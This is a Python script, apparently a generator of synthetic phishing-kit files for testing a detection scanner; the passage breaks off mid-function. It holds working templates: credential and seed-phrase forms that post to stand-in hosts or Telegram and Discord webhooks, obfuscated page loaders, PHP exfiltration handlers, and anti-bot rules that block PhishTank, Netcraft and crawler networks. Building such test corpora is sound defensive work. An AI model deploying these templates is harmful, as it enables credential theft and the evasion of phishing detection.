#!/usr/bin/env python3
"""Phishing kits as deployed on hacked shared hosts, second round: the kits with
no PHP in the page, obfuscated pages, the kit's plumbing and its one-table
helpers; and the real software that looks like them.

Written from how such kits are built (docs/rules.md, "Phishing kits, round 6"),
not from a corpus sample. Every technique has several independent spellings:
the field names and their input types, how the script reads the fields
(getElementById, jQuery, querySelector, FormData, the form's elements), how it
sends them (XMLHttpRequest, fetch, jQuery ajax/post, sendBeacon, an image
beacon, a form action), where to (a .php on another host, a Telegram bot, a
Discord/Slack webhook, a form service), how the page is hidden (unescape of
%XX, atob, decodeURIComponent(escape(atob)), String.fromCharCode, HTML
entities, a reversed string, a base64 data: iframe), and for the PHP plumbing
how the step files keep the fields, which channel ships them and what the
anti-bot gate tests. The look-alikes are what real sites and applications
carry: a single-page app's login to its own API, analytics beacons, a contact
form posting to a form service, a newsletter form, the old Google Analytics
document.write(unescape()) loader, e-mail address obfuscators, a hosting
provider's webmail box, an OAuth page, a payment gateway's hosted form, a
wallet's help page, FormMail, an SEO bad-bot .htaccess, a user-agent parser
library and a PSR-3 logger.

Everything is text written to a temp dir and scanned, never run or served.
Hosts are .invalid or example names, addresses documentation networks.

  phishgen2.py --out DIR [--seed N] [--per N]     write the files + variants.tsv
  phishgen2.py --scan [--seed N] [--per N] [--bin ./hostsweep] [--show-missed]
  phishgen2.py --check ...   as --scan; exit 1 when a technique is under its
        target or a look-alike gets a high/critical finding
        (tests/integration/scan_phishgen2.sh)
"""

import base64
import os
import string
import sys
import urllib.parse

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from phishgen import cli, write_set, rnd, tg_token, chat_id, drop_addr  # noqa: E402

TITLES_BRAND = ["Sign in to your Microsoft account", "PayPal: Log in", "Apple ID", "Netflix", "Chase Online",
                "Wells Fargo Sign On", "DHL Express - Track", "Outlook Web App", "Coinbase - Sign In",
                "Amazon Sign-In", "Adobe Document Cloud", "DocuSign", "Dropbox - Sign in"]
TITLES_GENERIC = ["Sign in", "Verify your account", "Online Banking", "Webmail", "Cloud Drive", "Account update",
                  "Secure login", "Billing information", "Confirm your identity", "Parcel delivery", "Tax refund",
                  "Document shared with you", "Mailbox storage full", "Wallet Sync", "Login"]
# (name, label, input type) of what a kit asks for; the first is the user
KITS = {
    "mail": [("email", "Email address", "email"), ("password", "Password", "password")],
    "mail2": [("login", "Email or phone", "text"), ("passwd", "Enter password", "password")],
    "mail3": [("em", "Email", "text"), ("pw", "Password", "text")],
    "bank": [("userid", "User ID", "text"), ("pass", "Password", "password"), ("otp", "SMS code", "tel")],
    "card": [("name", "Cardholder name", "text"), ("ccnum", "Card number", "tel"), ("exp", "MM/YY", "text"),
             ("cvv", "CVV", "password")],
    "card2": [("cc", "Card number", "text"), ("expiry", "Expiry", "text"), ("cvc", "Security code", "text"),
              ("pin", "ATM PIN", "password")],
    "ssn": [("ssn", "Social Security Number", "text"), ("dob", "Date of birth", "text"),
            ("mmn", "Mother's maiden name", "text")],
    "wallet": [("phrase", "12 or 24 word recovery phrase", "textarea"), ("wpass", "Wallet password", "password")],
}


def host(r):
    return r.choice(["%s.invalid" % rnd(r, 8), "%s-%s.example.net" % (rnd(r, 5), rnd(r, 4)),
                     "cdn%d.%s.invalid" % (r.randint(1, 9), rnd(r, 6)), "198.51.100.%d" % r.randint(2, 250)])


def brand_url(r):
    return r.choice(["https://www.microsoft.com/", "https://www.paypal.com/", "https://www.dhl.com/",
                     "https://outlook.live.com/", "https://www.chase.com/", "https://www.google.com/"])


def fields_of(r):
    return KITS[r.choice(list(KITS))]


def inputs(r, fields, no_type=False):
    out = []
    for n, lab, t in fields:
        idn = r.choice([n, "i" + n, n + "Input", "f_" + n])
        if t == "textarea":
            out.append('<textarea name="%s" id="%s" placeholder="%s"></textarea>' % (n, idn, lab))
        elif no_type:
            out.append('<input name="%s" id="%s" placeholder="%s">' % (n, idn, lab))
        else:
            out.append(r.choice(['<label>%s</label><input type="%s" name="%s" id="%s" required>',
                                 '<input class="form-control" placeholder="%s" type="%s" name="%s" id="%s">'])
                       % (lab, t, n, idn))
    return "\n      ".join(out)


def page(r, title, body, head=""):
    return ("<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"><title>%s</title>\n%s"
            "<meta name=\"viewport\" content=\"width=device-width\">\n</head>\n<body>\n%s\n</body></html>\n"
            % (title, head, body))


def title_of(r):
    return r.choice(TITLES_BRAND + TITLES_GENERIC)


# ---------------------------------------------------------------------------
# techniques: pages with no PHP


def js_collect(r, fields):
    """(JS statements setting q: the fields as a query string, or d: an object)."""
    k = r.choice(["byid", "jquery", "qs", "formdata", "elements", "serialize"])
    if k == "byid":
        return "var q=" + "+'&'+".join("'%s='+encodeURIComponent(document.getElementById('%s').value)" % (n, n)
                                       for n, _, _ in fields) + ";"
    if k == "jquery":
        return "var q=" + "+'&'+".join("'%s='+encodeURIComponent($('[name=%s]').val())" % (n, n)
                                       for n, _, _ in fields) + ";"
    if k == "qs":
        return "var q=" + "+'&'+".join("'%s='+encodeURIComponent(document.querySelector('[name=\"%s\"]').value)"
                                       % (n, n) for n, _, _ in fields) + ";"
    if k == "formdata":
        return "var q=new URLSearchParams(new FormData(document.forms[0])).toString();"
    if k == "elements":
        return ("var q=[].map.call(document.forms[0].elements,function(el){return el.name?el.name+'='+"
                "encodeURIComponent(el.value):'';}).join('&');")
    return "var q=$('form').serialize();"


def js_send(r):
    tok, h = tg_token(r), host(r)
    k = r.choice(["xhr", "fetch_post", "fetch_tg", "ajax", "post", "beacon", "image", "discord", "formsvc",
                  "tg_xhr", "slack"])
    s = {
        "xhr": "var x=new XMLHttpRequest();x.open('POST','https://%s/%s.php',true);"
               "x.setRequestHeader('Content-Type','application/x-www-form-urlencoded');x.send(q);" % (h, rnd(r, 5)),
        "fetch_post": "fetch('https://%s/%s/next.php',{method:'POST',mode:'no-cors',headers:{'Content-Type':"
                      "'application/x-www-form-urlencoded'},body:q});" % (h, rnd(r, 4)),
        "fetch_tg": "fetch('https://api.telegram.org/bot%s/sendMessage?chat_id=%s&text='+encodeURIComponent(q));"
                    % (tok, chat_id(r)),
        "ajax": "$.ajax({type:'POST',url:'https://%s/api/%s.php',data:q,dataType:'text'});" % (h, rnd(r, 4)),
        "post": "$.post('http://%s/%s.php',q);" % (h, rnd(r, 6)),
        "beacon": "navigator.sendBeacon('https://%s/c/%s',q);" % (h, rnd(r, 5)),
        "image": r.choice(["new Image().src='https://%s/p.gif?'+q;", "var i=new Image();i.src='//%s/px.png?d='+btoa(q);",
                           "(new Image).src=\"https://%s/log.php?\"+q;"]) % h,
        "discord": "fetch('https://discord.com/api/webhooks/%d/%s',{method:'POST',headers:{'Content-Type':"
                   "'application/json'},body:JSON.stringify({content:q})});" % (r.randint(10 ** 17, 10 ** 18), rnd(r, 40)),
        "formsvc": r.choice(["fetch('https://formsubmit.co/ajax/%s',{method:'POST',body:new FormData(document.forms[0])});"
                             % drop_addr(r),
                             "$.ajax({url:'https://formspree.io/f/%s',method:'POST',data:q,dataType:'json'});" % rnd(r, 8),
                             "fetch('https://getform.io/f/%s',{method:'POST',body:q});" % rnd(r, 10)]),
        "tg_xhr": "var t='%s',c='%s';var x=new XMLHttpRequest();x.open('GET','https://api.telegram.org/bot'+t+"
                  "'/sendMessage?chat_id='+c+'&text='+encodeURIComponent(q));x.send();" % (tok, chat_id(r)),
        "slack": "fetch('https://hooks.slack.com/services/T%s/B%s/%s',{method:'POST',body:JSON.stringify({text:q})});"
                 % (rnd(r, 8).upper(), rnd(r, 8).upper(), rnd(r, 24)),
    }[k]
    return s


def t_html_js_exfil(r):
    fields = fields_of(r)
    no_type = r.random() < 0.3
    fid = r.choice(["f", "loginForm", "frm1", "i0281"])
    body = ('<div class="box"><img src="img/logo.png">\n    <form id="%s" method="post">\n      %s\n'
            '      <button type="submit">Next</button>\n    </form></div>\n<script src="js/jquery.min.js"></script>\n'
            % (fid, inputs(r, fields, no_type)))
    wrap = r.choice(["document.getElementById('%s').addEventListener('submit',function(e){e.preventDefault();\n%%s\n});" % fid,
                     "$('#%s').on('submit',function(e){e.preventDefault();\n%%s\n});" % fid,
                     "document.forms[0].onsubmit=function(){\n%s\nreturn false;};",
                     "function go(){\n%s\n}\ndocument.querySelector('button').onclick=function(e){e.preventDefault();go();};"])
    js = "%s\n%s\nsetTimeout(function(){window.location.href='%s';},%d);" % (
        js_collect(r, fields), js_send(r), brand_url(r), r.choice([800, 1200, 2000]))
    body += "<script>\n" + (wrap % js) + "\n</script>"
    return {r.choice(["index.html", "login.html", "%s.html" % rnd(r, 6), "verify.htm"]): page(r, title_of(r), body)}


def t_html_form_offsite(r):
    fields = KITS[r.choice(["bank", "card", "card2", "ssn", "wallet"])]
    h = host(r)
    action = r.choice(["https://%s/%s.php" % (h, rnd(r, 6)), "http://%s/gate/post.php" % h,
                       "//%s/send.php" % h, "https://formsubmit.co/%s" % drop_addr(r),
                       "https://formspree.io/f/%s" % rnd(r, 8), "https://%s/?a=%s" % (h, rnd(r, 5))])
    body = ('<div class="wrap"><h2>%s</h2>\n  <form method="%s" action="%s" name="%s">\n      %s\n'
            '      <input type="hidden" name="_next" value="%s">\n      <input type="submit" value="Confirm">\n  </form></div>'
            % (r.choice(["Verify your card", "Update billing", "Confirm your identity", "Restore wallet", "Security check"]),
               r.choice(["post", "POST"]), action, rnd(r, 4), inputs(r, fields), brand_url(r)))
    return {r.choice(["billing.html", "index.htm", "verify.html", "%s.html" % rnd(r, 7)]): page(r, title_of(r), body)}


def _inner_page(r):
    """A login page that posts offsite or sends by script, to be hidden."""
    if r.random() < 0.5:
        return list(t_html_form_offsite(r).values())[0]
    return list(t_html_js_exfil(r).values())[0]


def t_html_encoded_page(r):
    inner = _inner_page(r)
    if r.random() < 0.5:  # the body only, a bare login form
        inner = inner.split("<body>\n", 1)[1].rsplit("</body>", 1)[0]
    k = r.choice(["unescape_quote", "unescape_all", "atob", "atob_escape", "fromcharcode", "entities", "reverse",
                  "iframe_b64", "innerhtml_atob", "hexescape"])
    v = "_0x" + rnd(r, 4, "0123456789abcdef")
    b64 = base64.b64encode(inner.encode()).decode()
    if k == "unescape_quote":
        js = "document.write(unescape('%s'));" % urllib.parse.quote(inner, safe="")
    elif k == "unescape_all":
        js = "document.write(unescape(\"%s\"));" % "".join("%%%02X" % c for c in inner.encode())
    elif k == "atob":
        js = "var %s=\"%s\";document.write(atob(%s));" % (v, b64, v)
    elif k == "atob_escape":
        js = "document.write(decodeURIComponent(escape(window.atob('%s'))));" % b64
    elif k == "fromcharcode":
        sep = r.choice([",", ", "])
        js = "document.write(String.fromCharCode(%s));" % sep.join(str(c) for c in inner.encode())
    elif k == "entities":
        # entity-encoded markup written by script, or as the page's text
        ent = "".join(r.choice(["&#%d;" % ord(c), "&#x%x;" % ord(c)]) for c in inner)
        js = "var %s=document.createElement('textarea');%s.innerHTML='%s';document.write(%s.value);" % (v, v, ent, v)
    elif k == "reverse":
        js = "document.write('%s'.split('').reverse().join(''));" % inner[::-1].replace("\\", "\\\\").replace("'", "\\'").replace("\n", "\\n")
    elif k == "hexescape":
        js = "document.write(\"%s\");" % "".join("\\x%02x" % c for c in inner.encode())
    elif k == "iframe_b64":
        html = '<iframe src="data:text/html;base64,%s" style="border:0;width:100%%;height:100vh"></iframe>' % b64
        return {r.choice(["index.html", "Invoice_%d.htm" % r.randint(100, 99999), "view.shtml", "doc.html"]):
                "<!DOCTYPE html><html><head><title>%s</title></head><body style=\"margin:0\">%s</body></html>\n"
                % (r.choice(TITLES_GENERIC), html)}
    else:
        js = "document.body.innerHTML=atob('%s');" % b64
    html = "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>%s</title></head><body><script>%s</script></body></html>\n" % (
        r.choice(TITLES_GENERIC + ["&#8203;"]), js)
    return {r.choice(["index.html", "%s.html" % rnd(r, 6), "Invoice_%d.htm" % r.randint(100, 99999), "view.shtml",
                      "wp-content/uploads/2024/%s.html" % rnd(r, 5)]): html}


def t_html_wallet_seed(r):
    h = r.choice(["save.php", "https://%s/w.php" % host(r), "connect.php", "api/sync"])
    body = ('<select id="wallet"><option>MetaMask</option><option>Trust Wallet</option><option>Phantom</option></select>\n'
            '<textarea id="%s" name="%s" placeholder="%s"></textarea><button id="go">%s</button>\n<script>\n'
            "document.getElementById('go').onclick=function(){var p=document.getElementById('%s').value.trim();\n"
            "if(p.split(/\\s+/).length<12){alert('Invalid phrase');return;}\n%s\n};\n</script>"
            % ((r.choice(["phrase", "mnemonic", "seed", "words", "key"]),) * 2
               + (r.choice(["Enter your 12 or 24 word recovery phrase", "Secret Recovery Phrase", "Typically 12 (sometimes 24) words separated by single spaces", "Seed phrase"]),
                  r.choice(["Connect", "Import", "Validate", "Sync"]))
               + (r.choice(["phrase", "mnemonic", "seed", "words", "key"]),)
               + (r.choice(["fetch('%s',{method:'POST',headers:{'Content-Type':'application/x-www-form-urlencoded'},body:'phrase='+encodeURIComponent(p)});" % h,
                            "$.post('%s',{w:$('#wallet').val(),phrase:p});" % h,
                            "var x=new XMLHttpRequest();x.open('POST','%s');x.send('seed='+encodeURIComponent(p));" % h]),)))
    # fix up: the id read must be the textarea's; keep it simple
    tid = body.split('<textarea id="', 1)[1].split('"', 1)[0]
    body = body.replace("getElementById('phrase')", "getElementById('%s')" % tid)
    for w in ("mnemonic", "seed", "words", "key"):
        body = body.replace("getElementById('%s')" % w, "getElementById('%s')" % tid)
    return {r.choice(["index.html", "restore.html", "connect.html"]): page(r, r.choice(["Wallet Sync", "Validate wallet", "DApp connect", "Restore"]), body)}


# ---------------------------------------------------------------------------
# techniques: the kit's PHP plumbing


def php_open(r):
    return r.choice(["<?php\n", "<?php\nerror_reporting(0);\n", "<?php\n@session_start();\n", "<?php\nsession_start();\n"])


def cfgv(r, key):
    return r.choice(["$cfg['%s']" % key, "$config['%s']" % key, "$settings['%s']" % key, "%s" % key.upper(),
                     "$%s" % key])


def exfil(r, mv):
    k = r.choice(["tg_curl", "discord_ctx", "txt", "panel", "mail", "mail_txt", "tg_fgc", "fopen_a"])
    if k == "tg_curl":
        return ("$ch = curl_init('https://api.telegram.org/bot' . %s . '/sendMessage');\n"
                "curl_setopt_array($ch, [CURLOPT_POST => 1, CURLOPT_RETURNTRANSFER => 1, CURLOPT_POSTFIELDS => "
                "['chat_id' => %s, 'text' => %s]]);\ncurl_exec($ch);\n" % (cfgv(r, "token"), cfgv(r, "chat"), mv))
    if k == "tg_fgc":
        return ("@file_get_contents(\"https://api.telegram.org/bot\" . %s . \"/sendMessage?chat_id=\" . %s . \"&text=\" . urlencode(%s));\n"
                % (cfgv(r, "token"), cfgv(r, "chat"), mv))
    if k == "discord_ctx":
        return ("$ctx = stream_context_create(['http' => ['method' => 'POST', 'header' => \"Content-Type: application/json\\r\\n\", "
                "'content' => json_encode(['username' => '%s', 'content' => %s])]]);\n@file_get_contents(%s, false, $ctx);\n"
                % (r.choice(["logs", "rezult", "bot"]), mv, cfgv(r, "webhook")))
    if k == "txt":
        return "@file_put_contents(__DIR__ . '/' . %s, %s . \"\\n-----\\n\", FILE_APPEND | LOCK_EX);\n" % (cfgv(r, "log"), mv)
    if k == "fopen_a":
        return "$f = fopen(%s, 'a');\nfwrite($f, %s);\nfclose($f);\n" % (r.choice(["'../rezults/%s.txt'" % rnd(r, 5), cfgv(r, "log"), "'logs.html'"]), mv)
    if k == "panel":
        return ("$ch = curl_init(%s . '/gate.php');\ncurl_setopt_array($ch, [CURLOPT_POST => 1, CURLOPT_RETURNTRANSFER => 1, "
                "CURLOPT_SSL_VERIFYPEER => 0, CURLOPT_POSTFIELDS => http_build_query(['k' => %s, 'd' => base64_encode(%s)])]);\n"
                "curl_exec($ch);\n" % (cfgv(r, "panel"), cfgv(r, "key"), mv))
    if k == "mail":
        return "@mail(%s, 'Rezult ' . $_SERVER['REMOTE_ADDR'], %s, 'From: Log <log@' . $_SERVER['HTTP_HOST'] . '>');\n" % (cfgv(r, "to"), mv)
    return ("@mail(%s, 'New log | ' . $ip, %s);\n$f = fopen(__DIR__ . '/' . %s, 'a'); fwrite($f, %s . \"\\n\"); fclose($f);\n"
            % (cfgv(r, "to"), mv, cfgv(r, "log"), mv))


def ip_line(r):
    return r.choice(["$ip = $_SERVER['REMOTE_ADDR'];\n",
                     "$ip = getenv('HTTP_CLIENT_IP') ?: (getenv('HTTP_X_FORWARDED_FOR') ?: getenv('REMOTE_ADDR'));\n",
                     "$ip = isset($_SERVER['HTTP_CF_CONNECTING_IP']) ? $_SERVER['HTTP_CF_CONNECTING_IP'] : $_SERVER['REMOTE_ADDR'];\n"])


def form_html(r, fields, action=""):
    return ('?>\n<!DOCTYPE html><html><head><title>%s</title></head><body>\n<form method="post" action="%s">\n      %s\n'
            '<button>Continue</button></form></body></html>\n' % (title_of(r), action, inputs(r, fields)))


def t_step_file(r):
    """One step of a multi-step kit: keeps its fields in the session, ships them, redirects to the next."""
    fields = KITS[r.choice(["bank", "card", "card2", "ssn", "mail", "mail2"])]
    keys = ", ".join("'%s'" % n for n, _, _ in fields)
    sk = r.choice(["d", "data", "info", "v"])
    keep = r.choice([
        "foreach ([%s] as $k) { $_SESSION['%s'][$k] = trim((string) @$_POST[$k]); }\n" % (keys, sk),
        "foreach (array(%s) as $f) {\n    $_SESSION[$f] = htmlspecialchars($_POST[$f]);\n}\n" % keys,
        "".join("$_SESSION['%s'] = $_POST['%s'];\n" % (n, n) for n, _, _ in fields),
        "$_SESSION['%s'] = array_merge((array) @$_SESSION['%s'], array_intersect_key($_POST, array_flip([%s])));\n" % (sk, sk, keys),
    ])
    dump = r.choice(["print_r($_SESSION['%s'], true)" % sk, "json_encode($_SESSION)", "print_r($_SESSION, true)",
                     "implode(\"\\n\", $_SESSION['%s'])" % sk, "var_export($_SESSION['%s'], true)" % sk])
    nxt = r.choice(["step%d.php" % r.randint(2, 4), "card.php", "otp.php", "billing.php", "done.php", "success.php"])
    s = php_open(r).replace("@session_start();\n", "") + ("session_start();\n" if "session_start" not in php_open(r) else "")
    s = "<?php\nsession_start();\nrequire __DIR__ . '/%s';\n" % r.choice(["config.php", "inc/config.php", "../settings.php"])
    s += r.choice(["require __DIR__ . '/inc/filter.php';\n", "include 'antibot.php';\n", ""])
    s += "if ($_SERVER['REQUEST_METHOD'] === 'POST') {\n" if r.random() < 0.6 else "if (isset($_POST['%s'])) {\n" % fields[0][0]
    s += keep + ip_line(r)
    s += "$msg = \"[%s] \" . $ip . \"\\n\" . %s;\n" % (r.choice(["step", "LOG", "+++ Info +++", "Card", "Login"]), dump)
    s += exfil(r, "$msg")
    s += r.choice(["header('Location: %s'); exit;\n", "header(\"Location: %s?sid=\" . session_id());\nexit();\n",
                   "echo \"<script>location.href='%s'</script>\"; exit;\n"]) % nxt
    s += "}\n"
    if r.random() < 0.8:
        s += form_html(r, fields)
    return {r.choice(["step2.php", "index.php", "card.php", "billing.php", "verify.php", "otp.php"]): s}


def t_post_dump_handler(r, ajax=False):
    """The one handler of an HTML page: every posted field, the visitor, sent, a redirect to the real brand."""
    mv = r.choice(["$msg", "$message", "$data", "$txt"])
    dump = r.choice([
        "%s = \"+++ %s +++\\n\";\nforeach ($_POST as $k => $v) { %s .= ucfirst($k) . ': ' . $v . \"\\n\"; }\n",
        "%s = \"--- %s ---\\n\" . print_r($_POST, true);\n",
        "%s = '%s ' . json_encode($_POST);\n",
        "%s = \"%s\\n\" . http_build_query($_POST, '', \"\\n\");\n",
        "%s = \"%s\\n\";\nforeach ($_REQUEST as $key => $val) {\n    %s .= \"$key : $val\\n\";\n}\n",
    ])
    lab = r.choice(["OFFICE", "WEBMAIL", "BANK", "LOGIN", "RESULT", "DHL", "New Log"])
    body = dump.replace("%s", mv, 1).replace("%s", lab, 1).replace("%s", mv)
    s = "<?php\n" + r.choice(["@session_start();\n", "", "error_reporting(0);\n"]) + "require '%s';\n" % r.choice(["config.php", "email.php", "../config.php"])
    s += ip_line(r) + body + r.choice(["%s .= 'IP: ' . $ip . \"\\nUA: \" . $_SERVER['HTTP_USER_AGENT'] . \"\\n\";\n" % mv,
                                       "%s .= \"IP: $ip | \" . date('r') . \"\\n\";\n" % mv])
    s += exfil(r, mv)
    if ajax:  # the back end of a script-sent page answers JSON, as a contact form's does
        s += r.choice(["echo json_encode(['ok' => true]);\n", "header('Content-Type: application/json');\necho '{\"status\":1}';\n"])
    else:
        s += r.choice(["header('Location: ' . %s);\n" % cfgv(r, "redirect"), "header(\"Location: %s\");\n" % brand_url(r),
                       "header('Location: https://' . %s);\n" % cfgv(r, "exit_domain"),
                       "echo \"<script>location.href='%s';</script>\";\n" % brand_url(r)])
    return {r.choice(["post.php", "next.php", "send.php", "login.php", "%s.php" % rnd(r, 5)]): s}


def t_post_dump_ajax(r):
    """The same handler behind a page that sends by script: it answers JSON."""
    return t_post_dump_handler(r, ajax=True)


def t_wallet_handler(r):
    v = r.choice(["phrase", "mnemonic", "seed", "words", "secret"])
    s = "<?php\nrequire __DIR__ . '/config.php';\n" + ip_line(r)
    s += r.choice(["$w = preg_replace('/[^a-z ]/', '', strtolower((string) @$_POST['%s']));\n",
                   "$w = trim($_POST['%s']);\n", "$w = strtolower(trim(isset($_REQUEST['%s']) ? $_REQUEST['%s'] : ''));\n"]).replace("%s", v)
    s += r.choice(["if (str_word_count($w) < 12) { header('Location: index.html?e=1'); exit; }\n",
                   "$n = count(preg_split('/\\s+/', $w));\nif ($n != 12 && $n != 24) { die('Invalid phrase'); }\n",
                   "if (!in_array(count(explode(' ', $w)), [12, 15, 18, 21, 24])) { http_response_code(400); exit; }\n"])
    s += "$msg = \"Wallet: \" . @$_POST['wallet'] . \"\\n%s: \" . $w . \"\\nIP: \" . $ip;\n" % r.choice(["Phrase", "Seed", "Mnemonic", "Words"])
    s += exfil(r, "$msg") + "echo json_encode(['ok' => true]);\n"
    return {r.choice(["save.php", "connect.php", "sync.php", "import.php"]): s}


def t_random_dir_gate(r):
    """The index that gives each visitor a fresh random directory: a symlink, a copy or a rename."""
    t = r.choice(["$t = substr(sha1(uniqid('', true)), 0, 12);\n", "$t = md5(rand(0, 99999) . microtime());\n",
                  "$t = bin2hex(random_bytes(6));\n", "$t = substr(str_shuffle('abcdefghijklmnopqrstuvwxyz0123456789'), 0, 10);\n",
                  "$t = dechex(mt_rand(0x100000, 0xffffff)) . time();\n"])
    mk = r.choice(["@symlink(__DIR__ . '/app', __DIR__ . '/s_' . $t);\n",
                   "symlink(realpath('./%s'), './' . $t);\n" % r.choice(["kit", "page", "secure", "login"]),
                   "@mkdir($t);\nforeach (glob('%s/*') as $f) { @copy($f, $t . '/' . basename($f)); }\n" % r.choice(["src", "page", "tmpl"]),
                   "$z = new ZipArchive();\nif ($z->open('page.zip') === true) { $z->extractTo($t); $z->close(); }\n",
                   "@rename(trim(@file_get_contents('.last')), $t);\n@file_put_contents('.last', $t);\n"])
    go = r.choice(["header('Location: s_' . $t . '/login.php?sid=' . session_id());\n",
                   "header(\"Location: ./$t/?email=\" . urlencode(@$_GET['email']));\n",
                   "echo '<meta http-equiv=\"refresh\" content=\"0; url=' . $t . '/index.php\">';\n",
                   "echo \"<script>window.location='\" . $t . \"/';</script>\";\n",
                   "header('Refresh: 0; url=' . $t . '/');\n"])
    s = "<?php\n" + r.choice(["session_start();\n", ""]) + r.choice(["require __DIR__ . '/ab.php';\n", "include 'blocker.php';\n", ""])
    s += t + mk + go
    return {"index.php": s}


def t_antibot_include(r):
    k = r.choice(["cidr", "ua", "hostname", "geo", "token", "ipfile"])
    if k == "cidr":
        nets = ", ".join("'%d.%d.0.0/%d'" % (r.choice([66, 64, 72, 74, 157, 207, 40, 52, 54]), r.randint(0, 255), r.choice([16, 20, 24]))
                         for _ in range(r.randint(8, 20)))
        s = ("<?php\n$nets = [%s];\n$ip = $_SERVER['REMOTE_ADDR'];\nforeach ($nets as $n) {\n    list($sub, $bits) = explode('/', $n);\n"
             "    if ((ip2long($ip) & ~((1 << (32 - $bits)) - 1)) == ip2long($sub)) { %s }\n}\n")
        s = s % (nets, r.choice(["header('HTTP/1.0 404 Not Found'); die('<h1>404 Not Found</h1>');",
                                 "header('Location: https://www.google.com/'); exit;", "http_response_code(404); exit;"]))
    elif k == "ua":
        words = r.sample(["bot", "crawl", "spider", "slurp", "curl", "wget", "python", "phantom", "headless", "facebookexternalhit",
                          "virustotal", "phishtank", "netcraft", "urlscan", "phish", "scanner", "avast", "kaspersky"], 10)
        for w in ("phishtank", "netcraft"):
            if w not in words:
                words.append(w)
        s = ("<?php\nif (preg_match('/%s/i', (string) @$_SERVER['HTTP_USER_AGENT'])) {\n    %s\n}\n"
             % ("|".join(words), r.choice(["header('Location: https://www.%s/'); exit;" % r.choice(["google.com", "bing.com", "microsoft.com"]),
                                          "header('HTTP/1.1 404 Not Found'); exit('Not Found');"])))
    elif k == "hostname":
        words = r.sample(["amazonaws", "googleusercontent", "digitalocean", "msnbot", "kaspersky", "paypal", "phish", "trendmicro",
                          "netcraft", "ovh", "hetzner", "bitdefender", "forcepoint", "sophos"], 8)
        s = ("<?php\n$h = strtolower(gethostbyaddr($_SERVER['REMOTE_ADDR']));\nforeach ([%s] as $w) {\n"
             "    if (strpos($h, $w) !== false) { %s }\n}\n" % (", ".join("'%s'" % w for w in words),
                                                               r.choice(["http_response_code(403); exit;", "header('Location: https://www.google.com'); die();"])))
    elif k == "geo":
        s = ("<?php\n$g = @json_decode(file_get_contents('http://%s/json/' . $_SERVER['REMOTE_ADDR'] . '?fields=countryCode,isp,hosting,proxy'), true);\n"
             "if (!$g || !empty($g['hosting']) || !empty($g['proxy']) || !in_array($g['countryCode'], ['US', 'GB', 'CA'], true)) { header('Location: https://www.%s/'); exit; }\n"
             "$_SESSION['country'] = $g['countryCode'];\n" % (r.choice(["ip-api.com", "geo.%s" % host(r)]), r.choice(["google.com", "netflix.com"])))
    elif k == "token":
        s = ("<?php\nif (empty($_GET['t']) || !hash_equals(substr(md5(date('Ymd') . '%s'), 0, 8), (string) $_GET['t'])) {\n"
             "    header('Location: https://www.%s/'); exit;\n}\n" % (rnd(r, 3), r.choice(["google.com", "wikipedia.org"])))
    else:
        s = ("<?php\n$bad = file(__DIR__ . '/%s', FILE_IGNORE_NEW_LINES);\nforeach ($bad as $b) {\n"
             "    if (strpos($_SERVER['REMOTE_ADDR'], $b) === 0) { header('HTTP/1.0 404 Not Found'); exit('<h1>Not Found</h1>'); }\n}\n"
             "if (preg_match('/bot|crawler|phishtank|netcraft/i', $_SERVER['HTTP_USER_AGENT'])) { header('Location: https://www.google.com'); exit; }\n"
             % r.choice(["ips.txt", "blacklist.dat", "bots/ip.txt"]))
    return {r.choice(["antibot.php", "inc/filter.php", "ab.php", "blocker.php", "bots.php"]): s}


# search engines' and cloud crawlers' networks (first two octets)
CRAWLER_NETS = ["66.249", "64.233", "74.125", "66.102", "72.14", "216.239", "157.55", "207.46", "40.77", "65.52",
                "131.253", "54.236", "52.95", "34.64"]


def t_htaccess_gate(r):
    bots = r.sample(["phishtank", "netcraft", "urlscan", "virustotal", "google", "bitdefender", "kaspersky", "sophos",
                     "avast", "trendmicro", "forcepoint", "paloalto"], 6)
    for w in ("phishtank", "netcraft"):
        if w not in bots:
            bots.append(w)
    s = "RewriteEngine On\n"
    s += "RewriteCond %%{HTTP_USER_AGENT} (%s) [NC%s]\n" % ("|".join(bots), r.choice(["", ",OR"]))
    if r.random() < 0.6:
        s += "".join("RewriteCond %%{REMOTE_ADDR} ^%s\\. [OR]\n" % n.replace(".", "\\.") for n in r.sample(CRAWLER_NETS, 4))
        s += "RewriteCond %{REMOTE_HOST} (amazonaws|googleusercontent|digitalocean) [NC]\n"
    s += "RewriteRule .* %s [R=302,L]\n" % r.choice(["https://www.google.com/", "https://www.microsoft.com/", "- [F"]) if r.random() < 0.8 else "RewriteRule .* - [R=404,L]\n"
    if r.random() < 0.5:
        s = "".join("deny from %s.\n" % n for n in r.sample(CRAWLER_NETS, 6)) + s
    return {".htaccess": s}


def t_browser_table(r):
    """A kit's fingerprint helper holding just one table: browser or OS names by user-agent pattern."""
    fn = r.choice(["getBrowser", "get_browser_name", "getOS", "os_info", "user_os", "browser", "detectBrowser"])
    if "os" in fn.lower() or "OS" in fn:
        rows = [("Windows 10", "windows nt 10"), ("Windows 8.1", "windows nt 6.3"), ("Windows 7", "windows nt 6.1"),
                ("Windows XP", "windows nt 5.1"), ("Mac OS X", "macintosh|mac os x"), ("Linux", "linux"),
                ("Ubuntu", "ubuntu"), ("iPhone", "iphone"), ("iPad", "ipad"), ("Android", "android"),
                ("BlackBerry", "blackberry"), ("Mobile", "webos")]
    else:
        rows = [("Internet Explorer", "msie|trident"), ("Firefox", "firefox"), ("Safari", "safari"), ("Chrome", "chrome"),
                ("Edge", "edge|edg/"), ("Opera", "opera|opr/"), ("Netscape", "netscape"), ("Maxthon", "maxthon"),
                ("Konqueror", "konqueror"), ("Handheld Browser", "mobile"), ("UC Browser", "ucbrowser")]
    r.shuffle(rows)
    kind = r.choice(["pat_name", "name_pat", "if_chain"])
    ua = r.choice(["$_SERVER['HTTP_USER_AGENT']", "$ua", "$agent", "$userAgent"])
    s = "<?php\n" + r.choice(["", "/* detect */\n", "// user agent\n"])
    s += "function %s(%s) {\n" % (fn, "" if ua.startswith("$_") else ua)
    if kind == "if_chain":
        for i, (n, p) in enumerate(rows):
            s += "    %sif (preg_match('/%s/i', %s)) { return '%s'; }\n" % ("" if i == 0 else "else", p, ua, n)
        s += "    return 'Unknown';\n}\n"
    else:
        var = r.choice(["$os_array", "$browser_array", "$list", "$arr", "$browsers", "$oses"])
        if kind == "pat_name":
